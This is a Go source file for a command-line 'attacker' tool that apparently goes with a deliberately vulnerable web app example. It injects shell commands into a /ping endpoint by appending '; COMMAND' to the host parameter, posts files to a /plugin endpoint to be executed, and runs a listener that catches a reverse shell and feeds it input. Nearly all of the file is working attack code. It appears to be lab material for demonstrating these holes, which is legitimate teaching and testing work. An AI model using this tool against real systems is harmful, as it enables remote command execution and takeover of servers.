// Command attacker is the attacker's side of examples/vulnerable-web/attack.sh:
// an HTTP client for the app's holes and the listener a reverse shell
// connects back to. It needs nothing on the machine (no curl, no netcat).
//
//	attacker inject URL COMMAND        GET URL/ping with COMMAND injected; prints the answer
//	attacker plugin URL FILE ARG...    POST FILE to URL/plugin, run as ARG...; prints the answer
//	attacker listen ADDR SECONDS INPUT accept one connection, send INPUT, print what comes back
//	attacker wait URL SECONDS          wait until URL/healthz answers
//
// Exit codes: 0 done, 1 the attack found nobody (no answer, no connection), 2 usage.
package main

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/signal"
	"strconv"
	"syscall"
	"time"
)

func main() {
	// A background job of a script ignores SIGINT; Ctrl-C of the script
	// must still end its listener.
	sig := make(chan os.Signal, 1)
	signal.Notify(sig, os.Interrupt, syscall.SIGTERM)
	go func() {
		<-sig
		os.Exit(130)
	}()
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "attacker:", err)
		var u usageError
		if errors.As(err, &u) {
			os.Exit(2)
		}
		os.Exit(1)
	}
}

type usageError string

func (u usageError) Error() string { return string(u) }

var client = &http.Client{Timeout: 30 * time.Second}

func run(args []string) error {
	if len(args) == 0 {
		return usageError("usage: attacker inject|plugin|listen|wait ...")
	}
	switch cmd, args := args[0], args[1:]; {
	case cmd == "inject" && len(args) == 2:
		// The app runs "ping -c 1 -W 1 " + host in sh -c: a host of
		// "127.0.0.1; COMMAND" runs COMMAND after the ping.
		q := url.Values{"host": {"127.0.0.1 >/dev/null; " + args[1]}}
		return show(client.Get(args[0] + "/ping?" + q.Encode()))
	case cmd == "plugin" && len(args) >= 3:
		body, err := os.ReadFile(args[1])
		if err != nil {
			return err
		}
		q := url.Values{"arg": args[2:]}
		return show(client.Post(args[0]+"/plugin?"+q.Encode(), "application/octet-stream", bytes.NewReader(body)))
	case cmd == "listen" && len(args) == 3:
		secs, err := strconv.Atoi(args[1])
		if err != nil {
			return usageError("listen: SECONDS: " + err.Error())
		}
		return listen(args[0], time.Duration(secs)*time.Second, args[2])
	case cmd == "wait" && len(args) == 2:
		secs, err := strconv.Atoi(args[1])
		if err != nil {
			return usageError("wait: SECONDS: " + err.Error())
		}
		return wait(args[0], time.Duration(secs)*time.Second)
	default:
		return usageError("usage: attacker inject URL COMMAND | plugin URL FILE ARG... | listen ADDR SECONDS INPUT | wait URL SECONDS")
	}
}

// show prints an answer's body.
func show(resp *http.Response, err error) error {
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	_, err = io.Copy(os.Stdout, resp.Body)
	if err == nil && resp.StatusCode != http.StatusOK {
		err = fmt.Errorf("HTTP %s", resp.Status)
	}
	return err
}

// listen is the attacker's end of a reverse shell: it waits up to d for
// the shell to connect, sends it input, and prints what it answers until
// it hangs up (or d has passed).
func listen(addr string, d time.Duration, input string) error {
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return err
	}
	defer ln.Close()
	deadline := time.Now().Add(d)
	ln.(*net.TCPListener).SetDeadline(deadline)
	conn, err := ln.Accept()
	if err != nil {
		return fmt.Errorf("no connection on %s: %w", addr, err)
	}
	defer conn.Close()
	conn.SetDeadline(deadline)
	if _, err := io.WriteString(conn, input); err != nil {
		return err
	}
	_, err = io.Copy(os.Stdout, conn)
	var ne net.Error
	if errors.As(err, &ne) && ne.Timeout() {
		return nil // the shell stayed open: what it said is printed
	}
	return err
}

func wait(base string, d time.Duration) error {
	deadline := time.Now().Add(d)
	for {
		resp, err := client.Get(base + "/healthz")
		if err == nil {
			resp.Body.Close()
			if resp.StatusCode == http.StatusOK {
				return nil
			}
		}
		if time.Now().After(deadline) {
			return fmt.Errorf("%s did not answer in %v (last: %v)", base, d, err)
		}
		time.Sleep(100 * time.Millisecond)
	}
}
